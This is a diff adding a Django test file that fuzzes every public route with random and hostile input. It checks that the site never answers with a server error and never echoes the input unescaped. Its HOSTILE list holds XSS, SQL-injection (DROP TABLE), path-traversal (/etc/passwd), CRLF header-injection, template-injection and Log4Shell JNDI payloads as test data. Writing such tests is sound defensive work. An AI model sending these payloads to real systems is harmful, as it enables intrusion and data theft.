@@ -1,0 +1,209 @@
+"""Random and hostile input at every public address never gets a 500, and is never echoed unescaped.
+
+The addresses come from the URL resolver, so a new page is covered as soon as it is routed.
+Path parameters get random, overlong, SQL, HTML and invalid-UTF-8 values (as raw percent-encoded
+bytes, the way a browser or a bot sends them); query strings get the parameters the site's forms
+use plus made-up ones, with the same kind of values.
+"""
+
+import string
+from urllib.parse import quote
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver
+from django.urls.resolvers import LocalePrefixPattern, RoutePattern
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.factories import (
+    DocumentFileFactory,
+    MeetingFactory,
+    NewsItemFactory,
+    OrganisationFactory,
+    PageFactory,
+    ParticipationFactory,
+)
+
+SKIPPED_NAMESPACES = {"admin"}
+# Only answers POST: a GET is a 405 by design.
+SKIPPED_NAMES = {"accounts:logout"}
+ACCEPTED = {200, 301, 302, 304, 400, 404}
+
+PROBE = '"><xss-probe onmouseover=alert(1)>'
+HOSTILE = [
+    PROBE,
+    "<script>alert(document.cookie)</script>",
+    "' OR '1'='1' --",
+    "1; DROP TABLE documents_document; --",
+    "../../../../etc/passwd",
+    "%00",
+    "\x00",
+    "\r\nSet-Cookie: injected=1",
+    "{{ settings.SECRET_KEY }}",
+    "${jndi:ldap://example.org/a}",
+    "2016-02-30",
+    "2016-13-01",
+    "0000-00-00",
+    "-1",
+    "0",
+    "1e309",
+    "NaN",
+    "99999999999999999999999999",
+    "-99999999999999999999",
+    "☃ беженцы «кавычки» 漢字",
+    "a" * 5000,
+    'refugees OR -migrants "unclosed',
+    "&&||!!():*",
+]
+QUERY_NAMES = [
+    "q",
+    "page",
+    "year",
+    "kind",
+    "process",
+    "host_country",
+    "state",
+    "organisation",
+    "language",
+    "lang",
+    "sort",
+    "ordering",
+    "from",
+    "to",
+    "period",
+    "status",
+    "role",
+    "audience",
+    "in_language",
+    "next",
+    "format",
+]
+
+
+def public_routes():
+    """(name, route with converters) for every routed public address, with {lang} for the language prefix."""
+    routes = []
+
+    def walk(patterns, prefix, namespace):
+        for entry in patterns:
+            if isinstance(entry, URLResolver):
+                if entry.namespace in SKIPPED_NAMESPACES:
+                    continue
+                if isinstance(entry.pattern, LocalePrefixPattern):
+                    part = "{lang}/"
+                elif isinstance(entry.pattern, RoutePattern):
+                    part = str(entry.pattern)
+                else:
+                    continue
+                walk(entry.url_patterns, prefix + part, entry.namespace or namespace)
+            elif isinstance(entry, URLPattern) and isinstance(entry.pattern, RoutePattern):
+                name = f"{namespace}:{entry.name}" if namespace else entry.name
+                if name not in SKIPPED_NAMES:
+                    routes.append((name, prefix + str(entry.pattern)))
+
+    walk(get_resolver().url_patterns, "", None)
+    return routes
+
+
+ROUTES = public_routes()
+
+raw_bytes = st.binary(min_size=1, max_size=12).map(lambda data: "".join(f"%{byte:02X}" for byte in data))
+hostile_text = st.one_of(
+    st.sampled_from(HOSTILE),
+    st.text(max_size=40),
+    st.text(alphabet=string.ascii_letters + string.digits + "-_", min_size=1, max_size=30),
+)
+encoded_text = st.one_of(hostile_text.map(lambda value: quote(value, safe="")), raw_bytes)
+path_values = {
+    "int": st.one_of(st.integers(min_value=0, max_value=10**30).map(str), st.sampled_from(["1", "2", "3"])),
+    "slug": st.one_of(st.sampled_from(["meeting-1", "state-1", "news-1", "about", "organisation-1"]), encoded_text),
+    "str": st.one_of(st.sampled_from(["ru", "en", "kk"]), encoded_text),
+    "path": encoded_text,
+}
+query = st.lists(st.tuples(st.one_of(st.sampled_from(QUERY_NAMES), encoded_text), encoded_text), max_size=4).map(
+    lambda pairs: "&".join(f"{name}={value}" for name, value in pairs)
+)
+
+
+def fill(route: str, draw) -> str:
+    """The route with each <converter:name> replaced by a drawn value."""
+    parts = []
+    rest = route
+    while "<" in rest:
+        before, _, after = rest.partition("<")
+        spec, _, rest = after.partition(">")
+        converter = spec.split(":")[0] if ":" in spec else "str"
+        parts.append(before)
+        parts.append(draw(path_values.get(converter, path_values["str"])))
+    parts.append(rest)
+    return "".join(parts)
+
+
+@pytest.fixture
+def archive(db):
+    participation = ParticipationFactory()
+    DocumentFileFactory(document__meeting=participation.meeting)
+    MeetingFactory()
+    NewsItemFactory()
+    PageFactory(slug="about")
+    OrganisationFactory()
+
+
+def test_every_public_route_is_covered():
+    names = {name for name, _ in ROUTES}
+
+    assert {"pages:home", "meetings:meeting_detail", "documents:file_download", "search:search"} <= names
+    assert not any(name.startswith("admin:") for name in names)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("name", "route"), ROUTES, ids=[name for name, _ in ROUTES])
+def test_hostile_input_gets_a_clear_answer_never_a_server_error(client, archive, settings_override, name, route):
+    @settings(
+        max_examples=30,
+        deadline=None,
+        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+        derandomize=True,
+    )
+    @given(data=st.data(), language=st.sampled_from(["ru", "en"]), query_string=query)
+    def check(data, language, query_string):
+        path = "/" + fill(route, data.draw).replace("{lang}", language)
+        url = f"{path}?{query_string}" if query_string else path
+
+        response = client.get(url)
+
+        assert response.status_code in ACCEPTED, (url, response.status_code)
+        if not response.streaming and response.headers.get("Content-Type", "").startswith("text/html"):
+            content = response.content.decode("utf-8", errors="replace")
+            assert "<xss-probe" not in content, url
+            assert "<script>alert" not in content, url
+
+    check()
+
+
+@pytest.fixture
+def settings_override(settings):
+    # Hundreds of requests from one address: the rate limits would answer 429, which is not under test here.
+    settings.RATE_LIMIT_ENABLED = False
+    settings.DEBUG_PROPAGATE_EXCEPTIONS = False
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "path",
+    ["/en/meetings/%FF%FE/", "/ru/states/%C3%28/", "/en/documents/%ED%A0%80/", "/%FF/", "/en/%E2%82/"],
+)
+def test_invalid_utf8_in_the_path_is_a_client_error(client, path):
+    response = client.get(path)
+
+    assert response.status_code in {400, 404}
+
+
+@pytest.mark.django_db
+def test_a_probe_in_the_search_box_comes_back_escaped(client):
+    response = client.get("/en/search/", {"q": PROBE})
+
+    content = response.content.decode()
+    assert response.status_code == 200
+    assert "&quot;&gt;&lt;xss-probe onmouseover=alert(1)&gt;" in content
+    assert "<xss-probe" not in content
